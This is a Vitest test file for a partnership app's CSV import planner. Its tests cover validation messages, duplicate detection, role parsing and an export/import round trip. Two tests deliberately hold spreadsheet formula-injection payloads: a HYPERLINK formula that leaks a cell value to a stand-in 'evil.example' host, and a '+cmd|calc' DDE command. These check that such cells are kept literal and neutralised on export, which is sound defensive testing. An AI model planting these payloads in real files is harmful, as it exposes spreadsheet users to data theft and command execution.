import { describe, expect, it } from 'vitest';
import { parseCsv } from '@shared/imports/csvParse';
import type { CsvTable } from '@shared/imports/csvParse';
import type { ImportKind } from '@shared/imports/fields';
import { guessMapping } from '@shared/imports/fields';
import type { ImportReference } from '@shared/imports/lookups';
import type { ImportOptions } from '@shared/imports/planImport';
import { describeRowError, mappingProblems, planImport } from '@shared/imports/planImport';
import { importTemplateCsv } from '@shared/imports/templates';
import { commitmentsCsv } from '@shared/exports/commitmentsCsv';
import type { Commitment, Partnership } from '@shared/domain';
import { samplePortfolio } from '@shared/sample/portfolioGenerator';

function csv(text: string): CsvTable {
  const parsed = parseCsv(text);
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.table;
}

const EMPTY: ImportReference = { partnerships: [], stakeholders: [], commitments: [], organisationName: '' };
const acme = { id: 'p-acme', name: 'Acme co-sell', partnerOrg: 'Acme Corp' };
const globex = { id: 'p-globex', name: 'Globex reseller', partnerOrg: 'Globex', deletedAt: '2027-01-01T00:00:00.000Z' };
const withPartners: ImportReference = {
  partnerships: [acme, globex],
  stakeholders: [{ id: 's-lee', partnershipId: 'p-acme', name: 'Lee Chen' }],
  commitments: [{ partnershipId: 'p-acme', title: 'Send the QBR deck', dueOn: '2027-02-01' }],
  organisationName: 'Initrode',
};

function plan(kind: ImportKind, text: string, reference: ImportReference, extra: Partial<ImportOptions> = {}) {
  const table = csv(text);
  return planImport(table, { kind, mapping: guessMapping(kind, table.header), dateOrder: 'dmy', ...extra }, reference);
}

const messages = (p: ReturnType<typeof plan>) => p.errors.map(describeRowError);

describe('planImport: partnerships', () => {
  it('turns valid rows into inputs, with defaults for empty list cells', () => {
    const p = plan('partnerships', 'Name,Partner,Type,Status,Signed on,Renewal date,Owner,Tags\r\nAcme co-sell,Acme Corp,Co-Sell,,2026-04-01,31/03/2028,Dana,"emea; cloud"\r\nGlobex,Globex Inc,,at risk,,,,\r\n', EMPTY);
    expect(p.errors).toEqual([]);
    expect(p.validCount).toBe(2);
    expect(p.rows[0]?.values).toEqual({
      name: 'Acme co-sell', partnerOrg: 'Acme Corp', type: 'co-sell', status: 'active', signedOn: '2026-04-01', termEndsOn: '2028-03-31', owner: 'Dana', tags: 'emea, cloud',
    });
    expect(p.rows.map((r) => r.input)).toEqual([
      { name: 'Acme co-sell', partnerOrg: 'Acme Corp', type: 'co-sell', status: 'active', signedOn: '2026-04-01', termEndsOn: '2028-03-31', owner: 'Dana', tags: ['emea', 'cloud'], shareOpportunityAmounts: false },
      { name: 'Globex', partnerOrg: 'Globex Inc', type: 'other', status: 'at risk', signedOn: '', termEndsOn: '', owner: '', tags: [], shareOpportunityAmounts: false },
    ]);
  });

  it('reports each bad cell with its row and column, in the file’s own words', () => {
    const p = plan('partnerships', 'Name,Partner,Type,Renewal date,Signed on\r\n,Acme,gizmo,2027-02-30,\r\nOk,Ok Corp,,2027-01-01,2027-06-01\r\n', EMPTY);
    expect(messages(p)).toEqual([
      'Row 2, Type: “gizmo” is not one of technology, co-sell, reseller, distribution, joint venture, supplier or other.',
      'Row 2, Renewal date: Enter a date as YYYY-MM-DD.',
      'Row 2, Name: Name is required.',
      'Row 3, Renewal date: The term must end on or after the day it was signed.',
    ]);
    expect(p.rows[0]?.errors).toHaveProperty('termEndsOn');
    expect(p.validCount).toBe(0);
    expect(p.invalidCount).toBe(2);
  });

  it('reports duplicates within the file and against stored names, archived ones included', () => {
    const p = plan('partnerships', 'Name,Partner\nNew one,X\n  new ONE ,Y\nacme co-sell,Acme\nGlobex reseller,Globex\n', withPartners);
    expect(messages(p)).toEqual([
      'Row 3, Name: Same name as row 2.',
      'Row 4, Name: A partnership named “Acme co-sell” already exists.',
      'Row 5, Name: A partnership named “Globex reseller” already exists (archived).',
    ]);
  });

  it('reports ragged rows as a whole-row problem', () => {
    const p = plan('partnerships', 'Name,Partner,Owner\nA,B\nC,D,E,F\nG,H,I,,\n', EMPTY);
    expect(messages(p)).toEqual([
      'Row 2: This row has 2 cells but the header has 3: look for a missing or extra comma or quote.',
      'Row 3: This row has 4 cells but the header has 3: look for a missing or extra comma or quote.',
    ]);
    expect(p.validCount).toBe(1);
  });

  it('keeps formula-looking text literal and counts it', () => {
    const p = plan('partnerships', 'Name,Partner\n"=HYPERLINK(""http://evil.example"",""click"")",@SUM(A1)\n', EMPTY);
    expect(p.rows[0]?.input).toMatchObject({ name: '=HYPERLINK("http://evil.example","click")', partnerOrg: '@SUM(A1)' });
    expect(p.formulaCells).toBe(2);
  });

  it('imports its own template', () => {
    for (const kind of ['partnerships', 'stakeholders', 'commitments'] as const) {
      // The commitments template names Lee Chen as its owner, so he must exist; the stakeholders one adds him.
      const p = plan(kind, importTemplateCsv(kind), { ...withPartners, stakeholders: kind === 'commitments' ? withPartners.stakeholders : [], commitments: [] });
      expect(p.errors, kind).toEqual([]);
      expect(p.validCount, kind).toBe(1);
    }
  });
});

describe('planImport: stakeholders', () => {
  it('matches the Partnership column to stored names and reads sides loosely', () => {
    const text = 'Partnership,Name,Side,Role,Function\n ACME CO-SELL ,Ana Ortiz,them,Day to day,product\nAcme co-sell,Dana Reyes,Initrode,,\nAcme co-sell,Ken Ito,Acme Corp,decision-maker,\n';
    const p = plan('stakeholders', text, withPartners);
    expect(p.errors).toEqual([]);
    expect(p.rows.map((r) => r.input && 'side' in r.input && [r.input.partnershipId, r.input.side, r.input.roles])).toEqual([
      ['p-acme', 'partner', ['day-to-day lead']],
      ['p-acme', 'us', ['contributor']],
      ['p-acme', 'partner', ['decision maker']],
    ]);
  });

  it('reads several roles from a Roles column, separated by semicolons or commas, in order, each once', () => {
    const text = 'Partnership,Name,Side,Roles\nAcme co-sell,Vera Holt,partner,Sponsor; decision maker\nAcme co-sell,Sam Roy,us,"lead, influencer, Lead"\nAcme co-sell,Ivo Pan,us,contributor\n';
    const p = plan('stakeholders', text, withPartners);
    expect(p.errors).toEqual([]);
    expect(p.rows.map((r) => r.input && 'roles' in r.input && r.input.roles)).toEqual([['sponsor', 'decision maker'], ['day-to-day lead', 'influencer'], ['contributor']]);
    expect(p.rows[0]?.values.roles).toBe('sponsor, decision maker');
  });

  it('names each role it does not know and says how to list several', () => {
    const text = 'Partnership,Name,Side,Role\nAcme co-sell,Vera Holt,partner,sponsor; boss; chief\nAcme co-sell,Sam Roy,us,sponsor / decision maker\n';
    expect(messages(plan('stakeholders', text, withPartners))).toEqual([
      'Row 2, Role: “boss”, “chief” are not alliance roles: use sponsor, decision maker, influencer, day-to-day lead or contributor, several separated by commas or semicolons.',
      'Row 3, Role: “sponsor / decision maker” is not an alliance role: use sponsor, decision maker, influencer, day-to-day lead or contributor, several separated by commas or semicolons.',
    ]);
  });

  it('reports unknown and archived partnerships, bad sides and people already there', () => {
    const text = 'Partnership,Name,Side\nNope,A,us\nGlobex reseller,B,us\nAcme co-sell,C,sideways\nAcme co-sell,lee chen,partner\nAcme co-sell,,us\n';
    expect(messages(plan('stakeholders', text, withPartners))).toEqual([
      'Row 2, Partnership: No partnership is named “Nope”.',
      'Row 3, Partnership: The partnership “Globex reseller” is archived: restore it before importing into it.',
      'Row 4, Side: “sideways” is not one of us or partner.',
      'Row 5, Name: “Lee Chen” is already a stakeholder of “Acme co-sell”.',
      'Row 6, Name: Name is required.',
    ]);
  });

  it('puts every row into the chosen partnership, ignoring a Partnership column', () => {
    const p = plan('stakeholders', 'Partnership,Name,Side\nSomething else,Ana,partner\n', withPartners, { partnershipId: 'p-acme' });
    expect(p.errors).toEqual([]);
    expect(p.rows[0]?.input).toMatchObject({ partnershipId: 'p-acme', name: 'Ana' });
    expect(p.rows[0]?.values).not.toHaveProperty('partnership');
  });
});

describe('planImport: commitments', () => {
  it('reports a bad date, an unknown partnership, an unknown owner and a missing done date', () => {
    const text = [
      'Partnership,Title,Owed by,Owner,Due date,Status,Done on',
      'Acme co-sell,Share roadmap,we,Lee Chen,14/03/2027,,',
      'Acme co-sell,Bad date,partner,,next week,,',
      'Initech,Unknown partner,us,,2027-03-01,,',
      'Acme co-sell,Ghost owner,joint,Nobody,2027-03-01,,',
      'Acme co-sell,Finished,both,,2027-03-01,done,',
      'Acme co-sell,Send the QBR deck,us,,2027-02-01,,',
      'Acme co-sell,Share roadmap,them,,2027-03-14,,',
    ].join('\r\n');
    const p = plan('commitments', text, withPartners);
    expect(p.rows[0]?.input).toMatchObject({ partnershipId: 'p-acme', owedBy: 'us', ownerId: 's-lee', dueOn: '2027-03-14', status: 'open', source: 'manual' });
    expect(messages(p)).toEqual([
      'Row 3, Due date: Enter a date as YYYY-MM-DD.',
      'Row 4, Partnership: No partnership is named “Initech”.',
      'Row 5, Owner: No stakeholder of this partnership is named “Nobody”: add them first, or leave Owner out.',
      'Row 6, Done on: Say when it was done.',
      'Row 7, Title: “Send the QBR deck” due 2027-02-01 already exists in “Acme co-sell”.',
      'Row 8, Title: Same title and due date as row 2.',
    ]);
    expect([p.validCount, p.invalidCount]).toEqual([1, 6]);
  });

  it('names a missing required value by its field', () => {
    const p = plan('commitments', 'Partnership,Title,Owed by,Due on\nAcme co-sell,x,,\n', withPartners);
    expect(messages(p)).toEqual(['Row 2, Owed by: Owed by is required.', 'Row 2, Due on: Enter a date as YYYY-MM-DD.']);
  });
});

describe('mappingProblems', () => {
  it('names each required field without a column; a chosen partnership stands in for the column', () => {
    expect(mappingProblems({ kind: 'commitments', mapping: { title: 0 } })).toEqual({
      partnership: 'Choose the column that names the partnership, or one partnership for every row.',
      owedBy: 'Choose the column that holds Owed by.',
      dueOn: 'Choose the column that holds Due on.',
    });
    expect(mappingProblems({ kind: 'commitments', mapping: { title: 0, owedBy: 1, dueOn: 2 }, partnershipId: 'p' })).toEqual({});
  });
});

describe('commitments CSV round trip', () => {
  const snapshot = samplePortfolio('2027-01-14');
  const first = snapshot.partnerships[0]!;
  const reference = (partnerships: readonly Partnership[]): ImportReference => ({ ...EMPTY, partnerships, stakeholders: snapshot.stakeholders });

  it('imports our own export back unchanged (the source aside)', () => {
    const exported = commitmentsCsv(snapshot, { partnershipId: first.id, edition: 'internal', now: '2027-01-14' });
    const p = plan('commitments', exported, reference(snapshot.partnerships));
    expect(p.errors).toEqual([]);
    const pick = ({ partnershipId, title, detail, owedBy, ownerId, dueOn, status }: Commitment) => ({ partnershipId, title, detail, owedBy, ownerId, dueOn, status });
    const original = snapshot.commitments.filter((c) => c.partnershipId === first.id && !c.deletedAt).map(pick);
    expect(p.rows.map((r) => pick(r.input as Commitment))).toEqual(expect.arrayContaining(original));
    expect(p.validCount).toBe(original.length);
  });

  it('=HYPERLINK(...) survives import as literal text and leaves every export neutralised', () => {
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    const seeded = { ...snapshot, commitments: [{ ...snapshot.commitments.find((c) => c.partnershipId === first.id)!, title: hostile, detail: '+cmd|calc', deletedAt: undefined }] };
    const exported = commitmentsCsv(seeded, { partnershipId: first.id, edition: 'partner', now: '2027-01-14' });
    expect(exported).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`);
    const p = plan('commitments', exported, reference(snapshot.partnerships));
    expect(p.errors).toEqual([]);
    expect(p.rows[0]?.input).toMatchObject({ title: hostile, detail: '+cmd|calc' });
    const reimported = { ...seeded, commitments: [{ ...seeded.commitments[0]!, ...(p.rows[0]?.input as Commitment) }] };
    const again = commitmentsCsv(reimported, { partnershipId: first.id, edition: 'partner', now: '2027-01-14' });
    expect(again).toBe(exported);
  });
});
